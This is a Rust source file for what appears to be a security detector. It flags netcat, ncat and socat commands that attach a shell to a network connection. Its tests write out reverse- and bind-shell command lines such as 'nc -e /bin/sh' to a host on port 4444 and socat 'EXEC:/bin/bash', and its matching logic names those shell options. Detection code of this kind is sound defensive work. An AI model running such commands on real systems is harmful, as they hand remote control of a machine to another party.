//! nc/ncat/netcat/socat with an option that hands a program to the network peer: `-e`, `-c`,
//! `--exec`, `--sh-exec`, `--lua-exec`, socat `EXEC:`/`SYSTEM:`. That is a reverse or bind
//! shell. netcat-openbsd has no `-e`: the exec then most likely failed, which we say.

use super::{args, ClassSet, Ctx, Findings};
use crate::analysis::shell::SimpleCommand;
use crate::knowledge::{signals, ToolClass};

/// Options that take a value and are not the peer address.
const VALUE_OPTS: &[&str] = &[
    "-p", "-s", "-w", "-i", "-q", "-x", "-X", "-P", "-I", "-O", "-T", "-W", "--proxy", "--source",
    "-g", "-G",
];

pub fn wants(cx: &Ctx) -> bool {
    cx.runs_any(ClassSet::of(&[ToolClass::Netcat]))
}

pub fn detect(cx: &Ctx, out: &mut Findings) {
    for c in cx.commands() {
        let p = c.program();
        if c.class != Some(ToolClass::Netcat) || p == "telnet" {
            continue;
        }
        if p == "socat" {
            // `socat stdin exec:/bin/sh` relays a local terminal: a shell escape (carried,
            // judged by elevation), not a network shell.
            let networked = args(c).iter().any(|a| {
                let l = a.get(..8).unwrap_or(a).to_ascii_uppercase();
                [
                    "TCP", "UDP", "OPENSSL", "SSL", "SCTP", "SOCKS", "PROXY", "VSOCK", "DCCP",
                    "IP-", "IP4", "IP6",
                ]
                .iter()
                .any(|n| l.starts_with(n))
            });
            if let Some(a) = args(c).iter().filter(|_| networked).find(|a| {
                let l = a.get(..7).unwrap_or(a).to_ascii_lowercase();
                l.starts_with("exec:") || l.starts_with("system:")
            }) {
                out.hit(
                    signals::NETCAT_EXEC_OPTION,
                    format!("socat {a}{}", peer(c, a)),
                );
            }
            continue;
        }
        if let Some((opt, prog)) = exec_option(c) {
            out.hit(
                signals::NETCAT_EXEC_OPTION,
                format!("{p} {opt} {prog}{}", peer(c, prog)),
            );
            if cx.exe_name.contains("openbsd") && (opt == "-e" || opt.starts_with("-c")) {
                out.note("netcat-openbsd has no -e/-c exec option: this exec most likely failed (an attempt)");
            }
        }
    }
}

/// The exec option and the program it runs.
fn exec_option<'c>(c: &'c SimpleCommand) -> Option<(&'c str, &'c str)> {
    let a = args(c);
    for (i, x) in a.iter().enumerate() {
        for long in ["--exec", "--sh-exec", "--lua-exec"] {
            if x == long {
                return Some((long, a.get(i + 1).map_or("", |a| &**a)));
            }
            if let Some(v) = x.strip_prefix(long).and_then(|r| r.strip_prefix('=')) {
                return Some((long, v));
            }
        }
        if x.len() >= 2 && x.starts_with('-') && !x.starts_with("--") {
            let body = &x[1..];
            // `-e prog`, `-lvnpe prog` (cluster ending in e/c), `-e/bin/sh`.
            if body.bytes().all(|b| b.is_ascii_alphabetic())
                && (body.ends_with('e') || body.ends_with('c'))
            {
                let opt = if body.ends_with('e') { "-e" } else { "-c" };
                if let Some(prog) = a.get(i + 1) {
                    return Some((opt, prog));
                }
            } else if let Some(prog) = x.strip_prefix("-e").filter(|r| r.starts_with('/')) {
                return Some(("-e", prog));
            }
        }
    }
    None
}

/// ` to HOST:PORT` or ` listening on port N`, from the positional arguments.
fn peer(c: &SimpleCommand, exec_value: &str) -> String {
    let a = args(c);
    let mut pos: Vec<&str> = Vec::new();
    let mut skip = false;
    for x in a {
        if skip {
            skip = false;
            continue;
        }
        if VALUE_OPTS.contains(&x.as_ref())
            || matches!(
                x.as_ref(),
                "-e" | "-c" | "--exec" | "--sh-exec" | "--lua-exec"
            )
        {
            skip = true;
            continue;
        }
        if x.starts_with('-') || x == exec_value {
            continue;
        }
        pos.push(x);
    }
    let listening = super::has_short(c, b'l')
        || a.iter()
            .any(|x| x == "--listen" || x.to_ascii_uppercase().starts_with("TCP-LISTEN"));
    if c.program() == "socat" {
        return a
            .iter()
            .find(|x| x.to_ascii_uppercase().starts_with("TCP"))
            .map(|t| format!(" over {t}"))
            .unwrap_or_default();
    }
    match pos.as_slice() {
        [.., host, port] if !listening => format!(" to {host}:{port}"),
        _ if listening => format!(
            " listening on port {}",
            super::opt_value(c, &["-p"])
                .or(pos.last().copied())
                .unwrap_or("?")
        ),
        [host] => format!(" to {host}"),
        _ => String::new(),
    }
}

#[cfg(test)]
mod tests {
    use super::super::testutil::*;
    use super::*;
    use crate::analysis::Lineage;

    #[test]
    fn fires_on_exec_options() {
        assert_eq!(
            run(detect, &["nc", "-e", "/bin/sh", "10.1.2.3", "4444"]),
            ["netcat_exec_option"]
        );
        assert_eq!(
            run(detect, &["ncat", "--sh-exec", "sh -i", "h", "1"]),
            ["netcat_exec_option"]
        );
        assert_eq!(
            run(detect, &["nc", "-lvnp", "4444", "-e", "/bin/bash"]),
            ["netcat_exec_option"]
        );
        assert_eq!(
            run(
                detect,
                &["socat", "TCP:10.0.0.1:4444", "EXEC:/bin/bash,pty,stderr"]
            ),
            ["netcat_exec_option"]
        );
    }

    #[test]
    fn seed_alert_reads_as_openbsd_attempt() {
        let mut f = facts(&["nc", "-e", "/bin/sh", "example.com", "22"]);
        f.exe_path = Some("/usr/bin/nc.openbsd".into());
        let (ids, notes) = run_with(detect, &f, &Lineage::default());
        assert_eq!(ids, ["netcat_exec_option"]);
        assert!(notes[0].contains("most likely failed"));
    }

    #[test]
    fn quiet_without_exec_option() {
        assert!(run(detect, &["nc", "-z", "db", "5432"]).is_empty());
        assert!(run(detect, &["nc", "-lvnp", "4444"]).is_empty());
        assert!(run(detect, &["socat", "TCP-LISTEN:80,fork", "TCP:backend:8080"]).is_empty());
    }
}
